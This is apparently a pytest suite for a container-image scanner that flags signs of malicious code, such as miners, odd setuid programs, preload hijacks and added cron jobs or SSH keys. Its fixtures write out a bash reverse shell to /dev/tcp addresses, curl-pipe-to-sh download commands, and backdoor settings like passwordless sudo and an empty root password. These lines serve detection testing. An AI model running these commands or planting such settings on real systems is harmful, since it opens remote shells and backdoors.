"""Indicators of malicious code: each one found, its innocent twin left alone, and gaps said."""

from __future__ import annotations

from collections.abc import Sequence
from types import SimpleNamespace
from typing import Any, cast

import attrs
import pytest

from imagespec.analyzers.indicators.indicators import WANTED, Indicators, find_indicators
from imagespec.analyzers.packagedb import owners
from imagespec.analyzers.wanted import compile_wanted
from imagespec.documents.config import parse_config
from imagespec.image import Image
from imagespec.limits import Limits
from imagespec.rootfs import RootFs
from imagespec.verdict import Outcome, Verdict
from tests.build import Item, config, elf, file, layer, program, rootfs, scan, symlink, whiteout

ALL_WANTED = (*WANTED, *owners.WANTED)
DPKG = "var/lib/dpkg/info/"
BASE = (
    file(DPKG + "base.list", "/.\n/bin/su\n/etc/cron.daily/dpkg\n/usr/lib/libowned.so\n/usr/bin/owned\n"),
)


def image(run: dict[str, Any] | None = None, *, history: Sequence[str] = (), layers: int = 0) -> Image:
    rows = [{"created_by": text, "empty_layer": number >= layers} for number, text in enumerate(history)]
    document = config([layer()] * layers, run, history=rows)
    made = Image(references=(), config=parse_config(document, "config", Limits()), layers=())
    return attrs.evolve(made, layers=cast("Any", tuple(range(layers))))  # only their number is asked


def look(*items: Item, run: dict[str, Any] | None = None, history: Sequence[str] = ()) -> Indicators:
    return find_indicators(image(run, history=history), rootfs(items))


def found(seen: Indicators) -> set[tuple[str, str]]:
    return {(item.id, item.strength.value) for item in seen.found}


def missed(seen: Indicators) -> str:
    return "\n".join(item.message for item in seen.not_looked_at)


REVERSE_SHELL = "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"


# Scripts, history and commands.


def test_line_and_layer_of_a_script() -> None:
    seen = look(file("home/run.sh", "#!/bin/sh\nset -e\n" + REVERSE_SHELL + "\n"))
    (item,) = seen.found
    assert (item.evidence.path, item.evidence.line, item.evidence.layer) == ("/home/run.sh", 3, 0)
    assert item.evidence.seen == REVERSE_SHELL


@pytest.mark.parametrize(
    "path",
    [
        "etc/cron.d/x",
        "etc/profile.d/x.sh",
        "root/.bashrc",
        "opt/tools/a.sh",
        "etc/init.d/x",
        "var/spool/cron/root",
    ],
)
def test_where_lines_are_looked_for(path: str) -> None:
    assert ("reverse-shell", "high") in found(look(file(path, REVERSE_SHELL + "\n")))
    assert "reverse-shell" not in str(found(look(file(path, "# " + REVERSE_SHELL + "\n"))))


def test_small_executable_scripts_are_read() -> None:
    assert found(look(program("opt/start", "#!/bin/sh\n" + REVERSE_SHELL))) == {("reverse-shell", "high")}
    assert found(look(file("opt/notes.txt", REVERSE_SHELL))) == set()


def test_a_line_in_a_packages_file_is_weak() -> None:
    script = program("usr/bin/owned", "#!/bin/sh\n" + REVERSE_SHELL)
    assert found(look(*BASE, script)) == {("reverse-shell", "low")}
    assert found(look(*BASE, attrs.evolve(script, path="usr/bin/added"))) == {("reverse-shell", "high")}


def test_miners_configuration() -> None:
    assert found(look(file("opt/config.json", '{"url": "stratum+tcp://pool.example.com:3333"}'))) == {
        ("mining-pool", "high")
    }
    assert found(look(file("opt/config.json", '{"url": "https://pool.example.com"}'))) == set()


def test_history_and_commands() -> None:
    history = [
        "COPY . /",
        "RUN |1 A=b /bin/sh -c curl https://x.example/i.sh | sh # buildkit",
        "ENV curl | sh",
    ]
    seen = find_indicators(image(history=history, layers=2), rootfs([]))
    (item,) = [item for item in seen.found if item.evidence.layer is not None]
    assert (item.id, item.strength, item.evidence.layer) == ("download-to-shell", "low", 1)
    assert item.evidence.pointer == "config#/history/1/created_by"
    assert found(look(history=["/bin/sh -c curl http://45.9.148.35/x | sh"])) == {
        ("download-from-address", "low")
    }
    assert found(look(history=["/bin/sh -c apt-get update && apt-get install -y curl"])) == set()
    started = look(run={"Cmd": ["bash", "-c", "bash -i >& /dev/tcp/45.9.148.35/9 0>&1"]})
    assert found(started) == {("reverse-shell", "high")}
    assert started.found[0].evidence.pointer == "config#/config/Cmd"
    assert found(look(run={"Cmd": ["curl http://45.9.148.35/x | sh"]})) == {("download-from-address", "high")}
    assert found(look(run={"Healthcheck": {"Test": ["CMD-SHELL", "nc -z localhost 8080"]}})) == set()


# Files.


def suid(path: str, data: bytes | None = None, **other: Any) -> Item:
    return file(path, elf() if data is None else data, **{"mode": 0o4755, **other})


@pytest.mark.parametrize(
    ("item", "expected"),
    [
        (suid("usr/bin/su"), set()),  # listed as /bin/su: usr-merge
        (suid("usr/bin/sudo"), {("setid-unpackaged", "low")}),
        (suid("tmp/x"), {("temporary-program", "low"), ("setid-odd-place", "high")}),
        (suid("home/u/sh"), {("setid-odd-place", "high")}),
        (suid("usr/lib/.cache/x"), {("setid-odd-place", "high")}),
        (suid("root/.cache/chrome/chrome_sandbox"), {("setid-unpackaged", "low")}),
        (suid("home/u/x", uid=1000), {("setid-unpackaged", "low")}),
        (suid("home/u/x", mode=0o2755), {("setid-unpackaged", "low")}),
        (suid("home/u/x.sh", b"#!/bin/sh\n"), {("setid-unpackaged", "low")}),
        (suid("home/u/libx.so.1"), {("setid-unpackaged", "low")}),
        (file("usr/bin/plain", elf(), 0o755), set()),
    ],
)
def test_setid(item: Item, expected: set[tuple[str, str]]) -> None:
    assert found(look(*BASE, symlink("bin", "usr/bin"), item)) == expected


def test_setid_by_a_careless_chmod() -> None:
    assert found(look(*BASE, *(suid(f"home/u/{n}") for n in range(9)))) == {("setid-unpackaged", "low")}


def test_setid_and_databases() -> None:
    apk = file("lib/apk/db/installed", "P:busybox\nF:bin\nR:bbsuid\nF:usr/bin\nR:sudo\n")
    assert found(look(apk, suid("bin/bbsuid"), suid("usr/bin/sudo"))) == set()
    assert found(look(apk, suid("bin/sudo"))) == {("setid-unpackaged", "low")}
    assert "no package database" in missed(look(suid("usr/bin/su")))
    assert found(look(suid("usr/bin/su"))) == set()
    assert "rpm" in missed(look(file("var/lib/rpm/rpmdb.sqlite", b"x"), suid("usr/bin/su")))
    assert missed(look(*BASE)) == ""
    # a package that lists a link does not own what it leads to
    linked = look(file(DPKG + "a.list", "/usr/bin/x\n"), symlink("usr/bin/x", "/opt/x"), suid("opt/x"))
    assert found(linked) == {("setid-unpackaged", "low")}


def partly_kept(*items: Item, keep: int) -> RootFs:
    return RootFs([scan(layer(*items), lambda _, size, __: min(size, keep))])


def test_gaps() -> None:
    items = (
        *BASE,
        suid("usr/bin/sudo"),
        file("opt/a.sh", "true\n" * 9),
        file("etc/shadow", "root::0:0:0:0:::\n"),
    )
    seen = find_indicators(image(), partly_kept(*items, keep=8))
    assert found(seen) == set()
    assert "not kept completely (/var/lib/dpkg/info/base.list)" in missed(seen)
    assert "beyond their first bytes" in missed(seen)
    assert "accounts, keys or sudoers" in missed(seen)
    nothing = find_indicators(image(), RootFs([scan(layer(*items, program("tmp/x")), None), None]))
    assert "no content was kept" in missed(nothing)
    assert "layer 1" in missed(nothing)
    assert "executables in temporary directories" in missed(nothing)
    large = look(program("opt/large", "#!/bin/sh\n" + "true\n" * 9000))
    assert "larger than 16 KiB" in missed(large)
    assert "lines longer" in missed(look(file("opt/a.sh", "curl\n" + "x" * 20_000)))


def test_what_is_wanted_suffices() -> None:
    items: tuple[Item, ...] = (
        *BASE,
        suid("home/u/x"),
        file("home/run.sh", REVERSE_SHELL),
        file("etc/shadow", "root::0:0:9:7:::\n"),
    )
    items += (program("opt/xmrig"), file("etc/ld.so.preload", "/tmp/x.so"), file("tmp/x.so", elf()))
    items += (file("root/.ssh/authorized_keys", KEY), file("etc/sudoers.d/u", "u ALL=(ALL) NOPASSWD: ALL\n"))
    small = find_indicators(image(), RootFs([scan(layer(*items), compile_wanted(ALL_WANTED))]))
    assert found(small) == found(look(*items))
    assert len(found(small)) == 7
    assert small.not_looked_at == ()


def test_wanted_is_modest() -> None:
    want = compile_wanted(ALL_WANTED)
    assert want(b"var/lib/dpkg/info/a.list", 9, 0o644) > 0
    assert want(b"opt/words/a.list", 9, 0o644) == 0
    assert want(b"var/lib/dpkg/info/a.md5sums", 9, 0o644) == 0
    assert want(b"usr/share/doc/x.sh", 9, 0o644) == 0
    assert want(b"usr/bin/python3", 5_000_000, 0o755) == 64


@pytest.mark.parametrize(
    ("item", "expected"),
    [
        (program("opt/xmrig"), {("miner", "high")}),
        (program("usr/local/bin/XMRig-6.21.0"), {("miner", "high")}),
        (program("var/lib/kdevtmpfsi"), {("miner", "high")}),
        (program("opt/xmrig", "#!/bin/sh\n"), {("miner", "low")}),
        (program("opt/t-rex"), {("miner", "low")}),
        (program("opt/bin/miner", "#!/usr/bin/python3\n"), set()),
        (file("opt/xmrig", elf()), set()),
        (file("opt/rules/xmrig.yar", "rule x"), set()),
        (program("opt/xmrigger"), set()),
        (program("tmp/... /x"), {("hidden-program", "high")}),
        (program("tmp/.X25-unix/rsync"), {("hidden-program", "high")}),
        (program("tmp/.cache/esbuild"), {("hidden-program", "low")}),
        (program("dev/shm/x"), {("temporary-program", "low")}),
        (program("tmp/install.sh", "#!/bin/sh\n"), set()),
        (program("tmp/build/lib.so"), set()),
        (file("tmp/.X11-unix/x", "data"), set()),
        (program("opt/... /x"), set()),
    ],
)
def test_names_and_places(item: Item, expected: set[tuple[str, str]]) -> None:
    assert found(look(item)) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("", None),
        ("# nothing\n", None),
        ("/usr/lib/libowned.so\n", "low"),
        ("/usr/lib/libjemalloc.so.2\n", "low"),
        ("/usr/lib/libextra.so\n", "high"),
        ("/opt/app/libextra.so\n", "low"),
        ("/usr/local/lib/libprocesshider.so # x\n", "high"),
        ("/usr/lib/libowned.so:/dev/shm/.x/a.so", "high"),
        ("/usr/lib/libgone.so\n", "low"),
    ],
)
def test_preload(text: str, expected: str | None) -> None:
    names = ("usr/lib/libowned.so", "usr/lib/libjemalloc.so.2", "usr/lib/libextra.so", "opt/app/libextra.so")
    libraries = [
        file(name, elf()) for name in (*names, "usr/local/lib/libprocesshider.so", "dev/shm/.x/a.so")
    ]
    seen = [
        item
        for item in look(*BASE, *libraries, file("etc/ld.so.preload", text)).found
        if item.id == "preload"
    ]
    assert (seen[0].strength.value if seen else None) == expected


# Access.

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ someone\n"


@pytest.mark.parametrize(
    ("item", "expected"),
    [
        (file("etc/passwd", "root:x:0:0:root:/root:/bin/sh\nu:x:1000:0::/:/bin/sh\n"), set()),
        (file("etc/passwd", "root:x:0:0::/:/bin/sh\ntoor:x:0:0::/:/bin/sh\n"), {"account"}),
        (file("etc/passwd", "u::1000:0::/:/bin/sh\n"), {"account"}),
        (file("etc/shadow", "root:*:1:0:9:7:::\nu:!:1:0:9:7:::\n"), set()),
        (file("etc/shadow", "root::1:0:9:7:::\n"), {"account"}),
        (file("etc/sudoers", "# x ALL=NOPASSWD: ALL\nroot ALL=(ALL:ALL) ALL\n"), set()),
        (file("etc/sudoers.d/u", "u ALL=(ALL) NOPASSWD:ALL\n"), {"sudoers"}),
        (file("root/.ssh/authorized_keys", "# none\n"), set()),
        (file("root/.ssh/authorized_keys", KEY), {"authorized-key"}),
        (file("home/u/.ssh/authorized_keys2", 'command="x" ' + KEY), {"authorized-key"}),
        (file("etc/cron.daily/dpkg", "x"), set()),
        (file("etc/cron.daily/more", "x"), {"added-schedule"}),
        (file("var/spool/cron/crontabs/root", "x"), {"added-schedule"}),
        (file("etc/cron.d/.placeholder", "x"), set()),
        (file("etc/systemd/system/x.service", "x"), {"added-unit"}),
        (symlink("etc/systemd/system/x.service", "/lib/x"), set()),
        (file("etc/init.d/.depend.boot", "x"), set()),
        (file("etc/rc.local", "x"), {"added-unit"}),
        (file("opt/etc/cron.d/x", "x"), set()),
    ],
)
def test_access(item: Item, expected: set[str]) -> None:
    assert found(look(*BASE, item)) == {(kind, "low") for kind in expected}


def test_additions_without_a_database() -> None:
    seen = look(file("etc/cron.d/x", "x"))
    assert found(seen) == set()
    assert "schedules and units could not be compared" in missed(seen)


def test_passwords_stay_out_of_the_report() -> None:
    seen = look(file("etc/shadow", "root::1:0:9:7:::\nu:$6$secret:1:0:9:7:::\n"))
    assert "secret" not in str(seen)


def test_evidence_is_bounded() -> None:
    seen = look(*BASE, *(file(f"etc/cron.d/{n}", "x") for n in range(500)))
    assert len(seen.found) == 21
    assert "480 more" in seen.found[-1].evidence.message


def test_deleted_files_are_said_to_be_out_of_scope() -> None:
    seen = find_indicators(image(), rootfs([program("opt/xmrig")], [whiteout("opt/xmrig")]))
    assert found(seen) == set()
    assert any("earlier layers" in item.message for item in seen.out_of_scope)


# The rule.


def judge(*items: Item, accept: bool = False) -> Outcome:
    from imagespec.rules.malicious_code import RULE  # noqa: PLC0415 - it needs every analyzer

    facts = SimpleNamespace(indicators=look(*items))
    return RULE.check(cast("Any", facts), {"accept_no_indicator": accept})


def test_rule() -> None:
    assert judge(*BASE).verdict is Verdict.UNKNOWN
    assert "cannot prove" in judge(*BASE).summary
    assert judge(*BASE, accept=True).verdict is Verdict.PASS
    assert judge(*BASE, suid("usr/bin/sudo"), accept=True).verdict is Verdict.UNKNOWN
    assert judge(suid("usr/bin/sudo"), accept=True).verdict is Verdict.UNKNOWN  # not compared
    failed = judge(*BASE, program("opt/xmrig"), accept=True)
    assert failed.verdict is Verdict.FAIL
    assert failed.evidence[0].path == "/opt/xmrig"
    assert {text.partition(":")[0] for text in (item.message for item in failed.evidence[1:])} == {
        "never looked at", "looked at",
    }  # fmt: skip


def test_scripts_are_bounded_together() -> None:
    scripts = [file(f"opt/{number}.sh", "curl x\n" + ("y" * 999 + "\n") * 900) for number in range(20)]
    assert "beyond 16 MiB in all" in missed(look(*scripts))
